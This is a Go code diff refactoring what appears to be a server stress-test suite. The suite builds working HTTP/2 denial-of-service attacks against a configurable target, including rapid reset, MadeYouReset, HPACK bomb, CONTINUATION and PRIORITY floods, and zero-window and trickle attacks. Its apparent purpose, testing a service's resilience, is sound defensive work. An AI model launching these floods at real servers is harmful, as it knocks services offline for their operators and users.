@@ -10,44 +10,32 @@ import (
 	"golang.org/x/net/http2/hpack"
 )
 
+// closed are the manners of a client whose replies have no window.
+var closed = Manners{Settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}}
+
 // All returns every attack.
 func All(t Target) []Attack {
 	headers := block(shouldRateLimit)
 	request := Request(t.Domain, t.Key, t.Value)
+	opened := opens(headers)
+	called := func(b []byte, stream uint32) []byte { return appendCall(b, stream, headers, request) }
 	return append([]Attack{
-		{Name: "calls without pause", begin: func(c *Conn) (func() error, error) {
-			return c.calls(2, func(b []byte, stream uint32) []byte {
-				return appendCall(b, stream, headers, request)
-			}), nil
-		}},
+		repeated("calls without pause", Manners{}, 2, called),
 		{Name: "HPACK bomb", begin: hpackBomb},
 		{Name: "headers too large", begin: largeHeaders},
-		{Name: "open streams", begin: func(c *Conn) (func() error, error) {
-			return c.calls(1, func(b []byte, stream uint32) []byte {
-				return appendFrame(b, http2.FrameHeaders, http2.FlagHeadersEndHeaders, stream, headers)
-			}), nil
-		}},
+		repeated("open streams", Manners{}, 1, opened),
 		{Name: "DATA of one byte", begin: func(c *Conn) (func() error, error) { return c.trickle(headers, 1) }},
 		{Name: "requests without an end", begin: func(c *Conn) (func() error, error) { return c.trickle(headers, 1025) }},
-		{Name: "windows that grow", manners: Manners{Settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}}, begin: growWindows},
-		{Name: "rapid reset", begin: func(c *Conn) (func() error, error) {
-			return c.calls(2, func(b []byte, stream uint32) []byte {
-				b = appendFrame(b, http2.FrameHeaders, http2.FlagHeadersEndHeaders, stream, headers)
-				return appendCode(b, http2.FrameRSTStream, stream, uint32(http2.ErrCodeCancel))
-			}), nil
-		}},
-		{Name: "rapid reset of whole calls", begin: func(c *Conn) (func() error, error) {
-			return c.calls(3, func(b []byte, stream uint32) []byte {
-				b = appendCall(b, stream, headers, request)
-				return appendCode(b, http2.FrameRSTStream, stream, uint32(http2.ErrCodeCancel))
-			}), nil
-		}},
-		{Name: "MadeYouReset", begin: func(c *Conn) (func() error, error) {
-			return c.calls(3, func(b []byte, stream uint32) []byte {
-				b = appendCall(b, stream, headers, request)
-				return appendCode(b, http2.FrameWindowUpdate, stream, 0)
-			}), nil
-		}},
+		{Name: "windows that grow", manners: closed, begin: growWindows},
+		repeated("rapid reset", Manners{}, 2, func(b []byte, stream uint32) []byte {
+			return appendCode(opened(b, stream), http2.FrameRSTStream, stream, uint32(http2.ErrCodeCancel))
+		}),
+		repeated("rapid reset of whole calls", Manners{}, 3, func(b []byte, stream uint32) []byte {
+			return appendCode(called(b, stream), http2.FrameRSTStream, stream, uint32(http2.ErrCodeCancel))
+		}),
+		repeated("MadeYouReset", Manners{}, 3, func(b []byte, stream uint32) []byte {
+			return appendCode(called(b, stream), http2.FrameWindowUpdate, stream, 0)
+		}),
 		{Name: "CONTINUATION flood", begin: func(c *Conn) (func() error, error) {
 			return c.continuation(headers, strings.Repeat("x", 8000))
 		}},
@@ -58,24 +46,17 @@ func All(t Target) []Attack {
 		flood("PRIORITY flood", appendFrame(nil, http2.FramePriority, 0, 1, []byte{0, 0, 0, 0, 1})),
 		flood("flood of unknown frames", appendFrame(nil, 0xfe, 0, 0, nil)),
 		{Name: "empty DATA flood", begin: func(c *Conn) (func() error, error) {
-			err := c.Send(1, appendFrame(nil, http2.FrameHeaders, http2.FlagHeadersEndHeaders, 1, headers))
+			err := c.Send(1, opened(nil, 1))
 			return c.again(chunk, times(chunk, appendFrame(nil, http2.FrameData, 0, 1, nil))), err
 		}},
-		{Name: "replies never read", manners: Manners{Deaf: true}, begin: func(c *Conn) (func() error, error) {
-			return c.calls(2, func(b []byte, stream uint32) []byte {
-				return appendCall(b, stream, headers, request)
-			}), nil
-		}},
-		{
-			Name:    "windows of zero",
-			manners: Manners{Settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}},
-			begin: func(c *Conn) (func() error, error) {
-				return c.calls(2, func(b []byte, stream uint32) []byte {
-					return appendCall(b, stream, headers, request)
-				}), nil
-			},
-		},
+		repeated("replies never read", Manners{Deaf: true}, 2, called),
+		repeated("windows of zero", closed, 2, called),
 	}, append(windowAttacks(headers, request), bombs(t)...)...)
+}
+
+// repeated sends call after call. add appends the frames of one.
+func repeated(name string, m Manners, frames int, add func(b []byte, stream uint32) []byte) Attack {
+	return Attack{Name: name, manners: m, begin: func(c *Conn) (func() error, error) { return c.calls(1, frames, add), nil }}
 }
 
 // chunk is how many small frames are written at once.
@@ -91,18 +72,13 @@ func flood(name string, frame []byte) Attack {
 // hpackBomb puts a field into the dynamic table that nearly fills it. Then it makes
 // requests of thousands of references to the field, one byte each.
 func hpackBomb(c *Conn) (func() error, error) {
-	headers := block(shouldRateLimit)
-	var large strings.Builder
-	e := hpack.NewEncoder(&large)
-	if err := e.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("x", 3900)}); err != nil {
+	first, bomb, err := bombOf(block(shouldRateLimit), 4000)
+	if err != nil {
 		return nil, err
 	}
-	first := slices.Concat(headers, []byte(large.String()))
 	if err := c.Send(1, appendFrame(nil, http2.FrameHeaders, http2.FlagHeadersEndHeaders, 1, first)); err != nil {
 		return nil, err
 	}
-	const newest = 0x80 | 62 // the dynamic table's first entry
-	bomb := slices.Concat(headers, bytes.Repeat([]byte{newest}, 4000))
 	stream := uint32(3)
 	var b []byte
 	return func() error {
@@ -110,6 +86,15 @@ func hpackBomb(c *Conn) (func() error, error) {
 		stream += 2
 		return c.Send(1, b)
 	}, nil
+}
+
+// bombOf returns the header block that puts the field into the table, and the one that refers to it
+// so many times.
+func bombOf(headers []byte, times int) (first, bomb []byte, err error) {
+	var large bytes.Buffer
+	err = hpack.NewEncoder(&large).WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("x", 3900)})
+	const newest = 0x80 | 62 // the dynamic table's first entry
+	return slices.Concat(headers, large.Bytes()), slices.Concat(headers, bytes.Repeat([]byte{newest}, times)), err
 }
 
 // largeHeaders makes calls with more headers than the server takes, in the largest
@@ -140,19 +125,30 @@ func largeHeaders(c *Conn) (func() error, error) {
 // manyStreams is how many streams are held open: as many as sluice allows.
 const manyStreams = 1024
 
+// many returns a step that sends frames on each of that many streams. add appends those of one.
+func (c *Conn) many(frames int, add func(b []byte, stream uint32) []byte) func() error {
+	var b []byte
+	return func() error {
+		b = b[:0]
+		for i := range uint32(manyStreams) {
+			b = add(b, 1+2*i)
+		}
+		return c.Send(frames*manyStreams, b)
+	}
+}
+
 // trickle begins many requests of nearly the largest size. It sends them in frames of
 // this size, stream by stream, all but their last bytes.
 func (c *Conn) trickle(headers []byte, size int) (func() error, error) {
 	const message = 64 << 10
-	var b []byte
-	for i := range uint32(manyStreams) {
-		b = appendFrame(b, http2.FrameHeaders, http2.FlagHeadersEndHeaders, 1+2*i, headers)
-		b = appendFrame(b, http2.FrameData, 0, 1+2*i, prefix(message))
-	}
-	if err := c.Send(2*manyStreams, b); err != nil {
+	opened := opens(headers)
+	if err := c.many(2, func(b []byte, stream uint32) []byte {
+		return appendFrame(opened(b, stream), http2.FrameData, 0, stream, prefix(message))
+	})(); err != nil {
 		return nil, err
 	}
 	part := make([]byte, size)
+	more := c.many(1, func(b []byte, stream uint32) []byte { return appendFrame(b, http2.FrameData, 0, stream, part) })
 	// The window of a stream has room for all but its prefix and the last bytes.
 	left := (defaultWindow - 5) / size
 	return func() error {
@@ -160,11 +156,7 @@ func (c *Conn) trickle(headers []byte, size int) (func() error, error) {
 			return errHold
 		}
 		left--
-		b = b[:0]
-		for i := range uint32(manyStreams) {
-			b = appendFrame(b, http2.FrameData, 0, 1+2*i, part)
-		}
-		return c.Send(manyStreams, b)
+		return more()
 	}, nil
 }
 
@@ -177,18 +169,14 @@ func growWindows(c *Conn) (func() error, error) {
 	case <-c.greeted:
 	case <-c.ended:
 	}
-	headers := block(reflectionInfo)
-	var b []byte
-	for i := range uint32(manyStreams) {
-		b = appendFrame(b, http2.FrameHeaders, http2.FlagHeadersEndHeaders, 1+2*i, headers)
-	}
-	if err := c.Send(manyStreams, b); err != nil {
+	if err := c.many(1, opens(block(reflectionInfo)))(); err != nil {
 		return nil, err
 	}
 	question := Framed(field(7, "*")) // list_services
 	part := times((16<<10)/len(question), question)
 	var sent [manyStreams]int64
 	next := 0
+	var b []byte
 	return func() error {
 		b, frames := b[:0], 0
 		for window := c.window.Load(); frames < 64 && next < manyStreams; {
